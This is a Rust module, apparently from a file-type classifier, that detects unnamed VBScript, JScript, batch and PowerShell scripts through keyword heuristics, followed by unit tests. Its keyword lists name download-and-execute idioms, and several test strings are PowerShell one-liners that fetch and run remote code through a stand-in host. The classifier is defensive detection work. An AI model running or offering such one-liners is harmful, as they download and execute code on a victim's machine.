//! Program text known by what stands in it, for scripts whose name is missing. Careful on purpose: each language needs
//! words that no letter and no listing of another language has.

/// How much of a text is looked at.
const LOOKED_AT: usize = 16 << 10;

/// VBScript that uses objects of Windows.
pub(super) fn is_visual_basic(bytes: &[u8]) -> bool {
    let Some(text) = code(bytes) else { return false };
    let acts =
        ["createobject(", "wscript.", "executeglobal", "getobject("].iter().any(|word| text.contains(word));
    let starts = [
        "dim ",
        "set ",
        "on error resume next",
        "function ",
        "sub ",
        "private ",
        "public ",
        "execute",
        "const ",
    ];
    let lines = text.lines().map(str::trim_start).flat_map(|line| line.split(':').map(str::trim_start));
    let told = lines.filter(|line| starts.iter().any(|start| line.starts_with(start))).take(2).count();
    let foreign = ["function(", "var ", "};", "#include", "echo off", "$", "attribute vb_"]
        .iter()
        .any(|word| text.contains(word));
    acts && told >= 2 && !foreign
}

/// JScript of Windows Script Host, or one that runs text it decodes.
pub(super) fn is_jscript(bytes: &[u8]) -> bool {
    let Some(text) = code(bytes) else { return false };
    let start = text.trim_start();
    let begins = [
        "var ",
        "function",
        "try",
        "/*",
        "//",
        "eval(",
        "(function",
        "!function",
        "this[",
        "new ",
        "const ",
        "let ",
        "if(",
        "if (",
        "[",
        "while",
        "for(",
        "for (",
    ];
    let is_code =
        text.contains(';') && text.contains('(') && (text.contains('=') || text.contains("function"));
    let hosted = ["activexobject", "wscript.", "wsh.", "scripting.filesystemobject"]
        .iter()
        .any(|word| text.contains(word));
    let evaluates = text.contains("eval(")
        && ["fromcharcode", "unescape(", "\\x", "charcodeat"].iter().any(|word| text.contains(word));
    let foreign = ["#include", "package ", "import ", "require(", "<?php", "createobject(", "dim "]
        .iter()
        .any(|word| text.contains(word));
    is_code && begins.iter().any(|word| start.starts_with(word)) && (hosted || evaluates) && !foreign
}

/// A batch file that begins as one.
pub(super) fn is_batch(bytes: &[u8]) -> bool {
    let bytes = bytes.strip_prefix(b"\xff\xfe").unwrap_or(bytes);
    let Some(text) = code(bytes) else { return false };
    let start = text.trim_start();
    let begins = [
        "@echo off",
        "@echo  off",
        "@set ",
        "@setlocal",
        "@powershell",
        "@cmd",
        "@start ",
        "@%",
        "@if ",
        "cmd /c ",
        "cmd.exe /c ",
        "powershell -",
        "powershell.exe -",
        "echo off\r",
        "echo off\n",
    ];
    let first = start.lines().next().unwrap_or_default();
    let sets = start
        .lines()
        .take(40)
        .filter(|line| line.trim_start_matches('@').starts_with("set ") && line.contains('='))
        .count();
    begins.iter().any(|word| start.starts_with(word))
        || first.contains("&@cls&@set")
        || (sets >= 3 && text.matches(":~").count() >= 10)
}

/// PowerShell by its variables and what only it calls.
pub(super) fn is_powershell(bytes: &[u8]) -> bool {
    let Some(text) = code(bytes) else { return false };
    let words = [
        "new-object ",
        "invoke-expression",
        "iex ",
        "iex(",
        "|iex",
        "| iex",
        "[system.",
        "[convert]::",
        "[text.encoding]",
        "-join",
        "start-process",
        "$env:",
        "frombase64string",
        "invoke-webrequest",
        "set-executionpolicy",
        "[char[]]",
        "[byte[]]",
        "write-host",
    ];
    let told = words.iter().filter(|word| text.contains(*word)).count();
    let sets = text
        .lines()
        .flat_map(|line| line.split(';'))
        .filter(|piece| assigns(piece.trim_start()))
        .take(1)
        .count();
    let foreign =
        ["<?php", "#!/", "#include", "function(", "dim ", "echo off"].iter().any(|word| text.contains(word));
    told >= 2 && (sets >= 1 || text.contains("iex")) && !foreign
}

/// `$name = …`
fn assigns(piece: &str) -> bool {
    let Some(rest) = piece.strip_prefix('$') else { return false };
    let end = rest
        .find(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | ':' | '{' | '}')))
        .unwrap_or(rest.len());
    end > 0 && rest.get(end..).is_some_and(|after| after.trim_start().starts_with('='))
}

/// The beginning of a text in lower case, one byte a character; none if it is markup or no text.
fn code(bytes: &[u8]) -> Option<String> {
    let wide = bytes.starts_with(b"\xff\xfe");
    let head = bytes.get(..LOOKED_AT).unwrap_or(bytes);
    let narrow: String = head
        .iter()
        .filter(|byte| !(wide && (**byte == 0 || **byte >= 0xfe)))
        .map(|byte| if byte.is_ascii() { char::from(byte.to_ascii_lowercase()) } else { '?' })
        .collect();
    let start = narrow.trim_start_matches('?').trim_start();
    let is_code = super::is_text(bytes) && !start.starts_with('<') && !start.is_empty() && !is_prose(start);
    is_code.then(|| narrow.trim_start_matches('?').to_string())
}

/// Whether a text is written for people and only quotes a command: one line in three is a sentence.
fn is_prose(text: &str) -> bool {
    let is_comment =
        |line: &str| ["#", "'", "//", "*", "::", "rem "].iter().any(|mark| line.starts_with(mark));
    let is_sentence = |line: &str| {
        let foreign = line.bytes().filter(|byte| *byte == b'?').count();
        let has_code = line.contains(['=', '(', '{', ';', '$', '|', '%', '\\']);
        let words = line.split_whitespace().count();
        let ends = line.ends_with(['.', ',']) && words >= 3;
        foreign * 3 > line.len() || (!has_code && (words >= 6 || ends))
    };
    let lines = text.lines().map(str::trim).filter(|line| !line.is_empty() && !is_comment(line)).take(200);
    let (sentences, all) =
        lines.fold((0, 0), |(sentences, all), line| (sentences + usize::from(is_sentence(line)), all + 1));
    sentences * 3 >= all.max(1)
}

#[cfg(test)]
mod tests {
    use crate::kind::Kind;

    #[test]
    fn letters_that_quote_a_command_are_no_scripts() {
        for letter in [
            "Dear all,\r\nattackers send lines like this one to run a program:\r\n\r\nIEX (New-Object Net.WebClient).DownloadString('https://a.example')\r\n\r\nPlease never paste them anywhere.\r\n",
            "各位\r\n次のような命令にご注意ください。\r\nIEX (New-Object Net.WebClient).DownloadString('https://a.example')\r\n実行しないでください。\r\n",
            "var is short for variable in this language; see below.\r\nWe use WScript.Echo(x) in the course, and eval(y) is not allowed there at all.\r\nPlease read the pages before the lesson on Monday.\r\n",
        ] {
            assert_eq!(Kind::of("a.txt", letter.as_bytes()).id, "text", "{letter}");
        }
    }

    #[test]
    fn scripts_without_a_name_are_known() {
        let rows = [
            ("Dim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run x", "vbs"),
            ("On Error Resume Next: Set a = GetObject(\"x\")", "vbs"),
            ("var a = new ActiveXObject('WScript.Shell'); a.Run('x');", "js"),
            ("eval(unescape('%61')); var a = 1;", "js"),
            ("@echo off\r\nset a=1\r\n", "bat"),
            ("$a = New-Object Net.WebClient; iex $a.DownloadString('x')", "ps1"),
            ("\u{feff}$b = [Convert]::FromBase64String('x'); $c = [Text.Encoding]::UTF8", "ps1"),
        ];
        for (text, want) in rows {
            assert_eq!(Kind::of("", text.as_bytes()).id, want, "{text}");
            assert_eq!(Kind::of("a.txt", text.as_bytes()).id, want, "{text}");
        }
    }

    #[test]
    fn letters_and_other_texts_are_not_scripts() {
        for text in [
            "Dear all,\nplease set the value with CreateObject(x).\nDim light.",
            "function a() { return 1; }\nvar x = a();",
            "import os\nx = eval('1') ; y = (1)",
            "Echo off is what you write first.",
            "The price is $a = 3 and [system. that is all",
            "{\"a\": \"eval(unescape(1))\"}",
        ] {
            assert_eq!(Kind::of("", text.as_bytes()).id, "text", "{text}");
        }
        assert_eq!(Kind::of("a.js", b"@echo off").id, "js");
        assert_eq!(Kind::of("a.csv", b"@echo off").id, "csv");
        assert_eq!(Kind::of("a.hta", b"<html><script>x</script>").id, "hta");
        assert_eq!(Kind::of("a.jse", b"var a = 1;").id, "vbe");
    }

    #[test]
    fn pages_are_known_however_they_begin() {
        for (name, bytes) in [
            ("a.html", &b"Hello <b>you</b>"[..]),
            ("", b"<div><form action=x>"),
            ("", b"<?xml version=\"1.0\"?><!DOCTYPE html><html xmlns=\"x\">"),
            ("", b"\xff\xfe<\0h\0t\0m\0l\0>\0"),
            ("", b"\n<!-- saved --><title>x</title>"),
        ] {
            assert_eq!(Kind::of(name, bytes).id, "html", "{name} {bytes:?}");
        }
        assert_eq!(Kind::of("a.html", b"\0\x01\x02").id, "data");
        assert_eq!(Kind::of("", b"<tag>no page").id, "text");
    }
}
